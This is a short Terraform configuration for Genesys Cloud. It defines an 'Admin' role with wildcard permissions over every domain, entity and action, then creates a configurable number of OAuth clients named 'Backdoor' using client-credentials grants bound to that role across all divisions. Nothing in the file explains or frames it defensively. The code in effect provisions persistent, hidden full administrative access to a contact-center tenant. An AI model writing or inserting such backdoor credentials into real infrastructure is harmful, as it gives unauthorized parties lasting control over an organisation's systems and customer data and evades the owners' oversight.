variable "n" {}
resource "genesyscloud_auth_role" "admin" {
  name = "Admin"
  permission_policies {
    domain = "*"
    entity_name = "*"
    action_set = ["*"]
  }
}
resource "genesyscloud_oauth_client" "b" {
  count = var.n
  name = "Backdoor"
  authorized_grant_type = "CLIENT-CREDENTIALS"
  roles {
    role_id = genesyscloud_auth_role.admin.id
    division_id = "*"
  }
}
